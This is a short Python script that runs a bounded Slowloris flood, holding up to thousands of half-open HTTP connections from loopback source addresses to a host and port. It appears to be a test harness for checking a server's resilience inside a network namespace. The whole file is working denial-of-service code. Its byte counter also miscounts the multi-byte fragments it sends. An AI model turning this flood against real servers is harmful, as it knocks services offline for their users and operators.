"""Slowloris flood (bounded): hold up to --conns HTTP connections to HOST:PORT
from --sources addresses 127.0.0.2.., each sending an unfinished request and
then one more byte every --trickle seconds; a connection the server closes is
opened again.  Stops after --seconds.  Prints one JSON line of counts.

Run inside a test namespace only (its loopback); it never resolves names."""
from __future__ import annotations

import argparse
import errno
import json
import selectors
import socket
import time


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--sources", type=int, default=40)
    ap.add_argument("--trickle", type=float, default=2.0)
    ap.add_argument("--seconds", type=float, default=20.0)
    a = ap.parse_args()
    assert a.conns <= 5000 and a.seconds <= 120       # bounded by construction
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "max_open": 0,
             "bytes_sent": 0}
    socks: dict[socket.socket, float] = {}             # socket -> next trickle time
    n = 0

    def open_one() -> None:
        nonlocal n
        src = f"127.0.0.{2 + n % a.sources}"
        n += 1
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((src, 0))
            err = s.connect_ex((a.host, a.port))
            if err not in (0, errno.EINPROGRESS):
                raise OSError(err, "connect")
        except OSError:
            stats["connect_failed"] += 1
            s.close()
            return
        stats["opened"] += 1
        socks[s] = time.monotonic() + 0.2
        sel.register(s, selectors.EVENT_READ)

    end = time.monotonic() + a.seconds
    last_open = 0.0
    while (now := time.monotonic()) < end:
        # Keep the pool full, at most 500 new connections per 0.1 s.
        if now - last_open >= 0.1:
            last_open = now
            for _ in range(min(500, a.conns - len(socks))):
                open_one()
        stats["max_open"] = max(stats["max_open"], len(socks))
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                stats["closed_by_server"] += 1
                sel.unregister(s)
                socks.pop(s, None)
                s.close()
        now = time.monotonic()
        for s, due in list(socks.items()):
            if due <= now:
                try:
                    s.send(b"GET /boot/" if stats["bytes_sent"] % 7 else b"a")
                    stats["bytes_sent"] += 1
                except OSError:
                    pass
                socks[s] = now + a.trickle
    for s in socks:
        s.close()
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
